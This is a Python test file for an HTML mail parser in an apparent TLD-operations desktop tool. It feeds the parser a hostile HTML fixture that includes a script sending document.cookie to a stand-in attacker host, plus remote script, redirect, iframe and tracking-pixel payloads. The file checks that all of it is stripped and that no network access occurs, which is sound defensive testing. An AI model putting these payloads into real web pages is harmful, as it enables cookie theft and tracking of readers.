"""HTML parts are reduced to text: no script runs, no style or remote resource is fetched.

The parse runs with every way out to the network made to fail loudly (``socket.socket``,
``create_connection``, name resolution, ``urllib``); hostile HTML then must still give the
members of its table, and nothing of its scripts, styles, comments or remote references.
"""

from __future__ import annotations

import socket
import urllib.request
from collections.abc import Iterator
from typing import Any

import pytest

from tldops_desktop.mail.html import parse_html
from tldops_desktop.mail.message import examine

HEAD = (
    b"From: TLD-OPS Repository via tld-ops <tld-ops@lists.dns-oarc.net>\n"
    b"To: tld-ops@lists.dns-oarc.net\n"
    b"Sender: tld-ops-bounces@lists.dns-oarc.net\n"
    b"List-Id: TLD-OPS <tld-ops.lists.dns-oarc.net>\n"
    b"Subject: [tld-ops] TLD-OPS Incident Response Community Repository <20261101-0600>\n"
    b"Message-ID: <html@x>\nMIME-Version: 1.0\n"
)

HOSTILE = """<!DOCTYPE html><html><head>
<title>.fr France (EU) Name: Title Person</title>
<meta http-equiv="refresh" content="0; url=http://attacker.invalid/r">
<link rel="stylesheet" href="http://attacker.invalid/s.css">
<style>@import url(http://attacker.invalid/i.css); body { background: url(//attacker.invalid/b.png) }
.x::after { content: ".it Italy (EU) Name: Styled Person" }</style>
<script src="http://attacker.invalid/x.js"></script>
<script>fetch("http://attacker.invalid/?" + document.cookie);
document.write("<tr><td>.es<td>Spain<td>EU<td>1<td>Script Person<td>s@nic.es<td>+34 600 000 000");
</script>
<base href="http://attacker.invalid/">
</head><body onload="location='http://attacker.invalid/onload'">
<img src="http://attacker.invalid/pixel.gif" width=1 height=1>
<iframe src="http://attacker.invalid/frame"></iframe>
<object data="http://attacker.invalid/o.swf"></object>
<svg><script>alert(1)</script><image href="http://attacker.invalid/svg.png"/></svg>
<noscript><p>.pt Portugal (EU)</p><p>Name: Noscript Person</p></noscript>
<template><tr><td>.be<td>Belgium<td>EU<td>1<td>Template Person<td>t@dns.be<td>+32 470 00 00 00
</template>
<!-- <tr><td>.at<td>Austria<td>EU<td>1<td>Comment Person<td>c@nic.at<td>+43 660 0000000 -->
<table>
<tr><th>ccTLD<th>Country<th>Region<th>#<th>Name<th>Email<th>Phone
<tr><td><a href="http://attacker.invalid/nl">.nl</a><td>Netherlands<td>EU<td>1
<td>Anna <b>Jansen</b><img src="https://attacker.invalid/a.png">
<td><a href="mailto:anna@sidn.nl?subject=x">write to Anna</a><td>+31 6 12345678
<tr><td>.de<td>Germany<td>EU<td>1<td onclick="x()">Bernd Müller<script>evil()</script>
<td>bernd@denic.de<td style="background:url(http://attacker.invalid/c)">+49 151 12345678
</table></body></html>"""

HIDDEN = ("Title Person", "Styled Person", "Script Person", "Noscript Person",
          "Template Person", "Comment Person", "attacker", "fetch", "alert", "cookie")  # fmt: skip


class NetworkUsed(AssertionError):
    pass


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    attempts: list[str] = []

    def refuse(name: str) -> Any:
        def call(*args: Any, **kwargs: Any) -> Any:
            attempts.append(f"{name}{args!r}")
            raise NetworkUsed(name)

        return call

    monkeypatch.setattr(socket, "socket", refuse("socket.socket"))
    monkeypatch.setattr(socket, "create_connection", refuse("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("socket.getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", refuse("socket.gethostbyname"))
    monkeypatch.setattr(urllib.request, "urlopen", refuse("urllib.request.urlopen"))
    yield attempts
    assert attempts == []


def _all_text(parsed: Any) -> str:
    parts = [u.text for u in parsed.unplaced] + [n.detail for n in parsed.notes]
    for member in parsed.members:
        parts += [member.country, member.source_line]
        parts += [f"{c.name} {c.email} {c.phone}" for c in member.contacts]
    return "\n".join(parts)


def test_hostile_html_is_reduced_to_its_table_text(no_network: list[str]) -> None:
    parsed = parse_html(HOSTILE)
    members = {m.tld.ace: m for m in parsed.members}
    assert sorted(members) == ["de", "nl"]
    anna = members["nl"].contacts[0]
    assert (anna.name, anna.email, anna.phone_e164) == (
        "Anna Jansen",
        "anna@sidn.nl",
        "+31612345678",
    )
    bernd = members["de"].contacts[0]
    assert (bernd.name, bernd.email) == ("Bernd Müller", "bernd@denic.de")
    text = _all_text(parsed)
    for hidden in HIDDEN:
        assert hidden not in text, hidden


@pytest.mark.parametrize("alternative", [False, True])
def test_an_html_edition_is_read_offline(no_network: list[str], alternative: bool) -> None:
    html = HOSTILE.encode("utf-8")
    if alternative:  # beside an empty text part, as some clients send
        body = (
            b'Content-Type: multipart/alternative; boundary="alt"\n\n--alt\n'
            b"Content-Type: text/plain; charset=utf-8\n\nSee the HTML part.\n--alt\n"
            b"Content-Type: text/html; charset=utf-8\n\n" + html + b"\n--alt--\n"
        )
    else:
        body = b"Content-Type: text/html; charset=utf-8\n\n" + html
    (found,) = examine(HEAD + body, "html").editions
    assert found.part == "text/html"
    assert sorted(m.tld.ace for m in found.body.members) == ["de", "nl"]
    text = _all_text(found.body)
    for hidden in HIDDEN:
        assert hidden not in text, hidden


def test_the_html_module_has_no_way_to_fetch() -> None:
    """What the reader can reach: html.parser only, no network or rendering module."""
    import tldops_desktop.mail.html as module

    names = set(vars(module))
    assert not names & {
        "urllib",
        "requests",
        "socket",
        "http",
        "QtWebEngineWidgets",
        "QTextDocument",
    }
